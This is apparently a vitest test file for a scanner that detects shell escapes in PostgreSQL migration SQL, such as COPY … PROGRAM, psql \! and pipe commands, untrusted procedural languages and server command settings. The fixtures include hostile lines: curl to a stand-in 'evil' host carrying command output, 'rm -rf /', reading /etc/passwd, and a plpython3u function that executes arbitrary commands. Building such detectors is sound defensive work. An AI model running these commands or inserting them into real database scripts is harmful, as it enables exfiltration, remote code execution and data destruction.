import { describe, expect, it } from 'vitest';
import type { ChangeSet } from '../../../src/db/model.js';
import { findChangeSetShellEscapes, findShellEscapes } from '../../../src/db/package-safety.js';

const kinds = (sql: string) => findShellEscapes(sql).map((e) => `${e.line} ${e.kind}`);

describe('findShellEscapes', () => {
  it('finds COPY … PROGRAM, \\!, \\copy … program and psql pipes with their lines', () => {
    const sql = [
      'CREATE TABLE t (a int);',
      "COPY t TO PROGRAM 'curl http://evil/?$(id)';",
      '\\! rm -rf /',
      "\\copy t from program 'cat /etc/passwd'",
      "DO $$ BEGIN EXECUTE 'copy t from   program ''id'''; END $$;",
      '\\o |mail root',
      "SELECT 'copy is fine';",
      "COPY t TO '/tmp/x.csv';",
    ].join('\n');
    expect(kinds(sql)).toEqual(['2 copy-program', '3 psql-shell', '4 psql-pipe', '5 copy-program', '6 psql-pipe']);
  });

  it('passes ordinary SQL, COPY to a file, comments mentioning the words and \\setenv alone', () => {
    expect(findShellEscapes("-- copy to program is refused\nCOPY t FROM STDIN;\nSELECT 'program';\n")).toEqual([]);
    expect(
      findShellEscapes(
        "\\setenv PAGER less\n\\echo 'done'\nCREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1';\n",
      ),
    ).toEqual([]);
    expect(
      findShellEscapes('CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;\n'),
    ).toEqual([]);
  });

  it('sees through comments inside the statement and a second meta-command on one line', () => {
    expect(kinds("COPY t FROM /* hidden */ PROGRAM 'id';")).toEqual(['1 copy-program']);
    expect(kinds("COPY t TO -- line comment\n  PROGRAM 'id';")).toEqual(['1 copy-program']);
    expect(kinds('SELECT 1;\n\\echo harmless \\! id\n')).toEqual(['2 psql-shell']);
  });

  it('backquotes (psql runs them in a shell), editors, \\g and \\w pipes', () => {
    expect(kinds('\\set who `id -un`\n')).toEqual(['1 psql-shell']);
    expect(kinds('\\ef my_function\n')).toEqual(['1 psql-shell']);
    expect(kinds('SELECT 1 \\g |sh\n')).toEqual(['1 psql-pipe']);
    expect(kinds('\\w |cat > /tmp/q\n')).toEqual(['1 psql-pipe']);
  });

  it('untrusted languages and ALTER SYSTEM of a command setting', () => {
    const sql = [
      'CREATE EXTENSION IF NOT EXISTS plpython3u;',
      'CREATE FUNCTION sh(c text) RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen(c).read() $$;',
      "DO LANGUAGE plperlu $$ system('id') $$;",
      "ALTER SYSTEM SET archive_command = 'curl http://evil';",
      "ALTER SYSTEM SET work_mem = '64MB';",
    ].join('\n');
    expect(kinds(sql)).toEqual([
      '1 untrusted-language',
      '2 untrusted-language',
      '3 untrusted-language',
      '4 server-command',
    ]);
  });
  it('every untrusted language and command setting in any case, with or without LANGUAGE PL/pgSQL beside it', () => {
    const sql = [
      'CREATE FUNCTION a() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;',
      "CREATE FUNCTION b() RETURNS int AS $$ 1 $$ LANGUAGE 'PlTclU';",
      'CREATE FUNCTION c() RETURNS int AS $$ 1 $$ language PLSH;',
      'CREATE FUNCTION d() RETURNS int AS $$ 1 $$ Language plr;',
      'DO LANGUAGE "plpython2u" $$ import os $$;',
      'create extension "PLPERLU";',
      "ALTER SYSTEM SET Restore_Command = 'x';",
      "alter system set SSL_PASSPHRASE_COMMAND = 'x';",
    ].join('\n');
    expect(kinds(sql)).toEqual([
      '2 untrusted-language',
      '3 untrusted-language',
      '4 untrusted-language',
      '5 untrusted-language',
      '6 untrusted-language',
      '7 server-command',
      '8 server-command',
    ]);
  });
});

describe('findShellEscapes on data', () => {
  it('judges COPY … FROM STDIN data as script lines too (psql runs them if the COPY fails with ON_ERROR_STOP off)', () => {
    const sql = 'COPY t FROM stdin;\n1\tok\n\\! id\n\\.\nSELECT 1;\n';
    expect(findShellEscapes(sql)).toEqual([{ line: 3, kind: 'psql-shell', text: '\\! id' }]);
  });

  it('an INSERT whose values mention copy … from program is data, not a COPY', () => {
    expect(kinds("INSERT INTO report (name) VALUES ('Copy of the loans from Program X');")).toEqual([]);
    expect(kinds("SELECT format('COPY %I FROM PROGRAM %L', 't', 'id');")).toEqual(['1 copy-program']);
  });
});

describe('findShellEscapes in function bodies', () => {
  it('a static COPY … PROGRAM in PL/pgSQL or an SQL function body', () => {
    expect(kinds("DO $$ BEGIN COPY t FROM PROGRAM 'id'; END $$;")).toEqual(['1 copy-program']);
    expect(kinds("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $f$COPY t TO PROGRAM 'id'$f$;")).toEqual([
      '1 copy-program',
    ]);
    expect(kinds("DO $$ BEGIN IF true THEN EXECUTE E'COPY t FROM PROGRAM ''id'''; END IF; END $$;")).toEqual([
      '1 copy-program',
    ]);
  });
});

describe('findChangeSetShellEscapes', () => {
  // Only the fields the scan reads: statements (at their own lines when known), rollback and precondition SQL.
  const changeSet = (over: Partial<ChangeSet>): ChangeSet =>
    ({
      location: { file: 'db/a.sql', line: 10 },
      statements: [],
      rollback: null,
      preconditions: null,
      ...over,
    }) as ChangeSet;

  it('finds escapes in statements at their lines, and in rollback and nested precondition SQL at the changeset', () => {
    const found = findChangeSetShellEscapes([
      changeSet({ statements: ['SELECT 1;'] }),
      changeSet({
        statements: ['CREATE TABLE t (a int);', "SELECT 1;\nCOPY t TO PROGRAM 'id';"],
        statementLocations: [
          { file: 'db/b.sql', line: 20 },
          { file: 'db/b.sql', line: 22 },
        ],
        rollback: ['DROP TABLE t;', '\\! rm -rf /'],
        preconditions: {
          onFail: 'HALT',
          onError: 'HALT',
          checks: [
            {
              type: 'and',
              children: [{ type: 'sql-check', sql: "COPY t FROM PROGRAM 'id'" }],
            },
          ],
        } as unknown as ChangeSet['preconditions'],
      }),
    ]);
    expect(found.map((f) => `${f.file}:${f.line} ${f.kind}`)).toEqual([
      'db/b.sql:23 copy-program',
      'db/a.sql:10 psql-shell',
      'db/a.sql:10 copy-program',
    ]);
  });
});
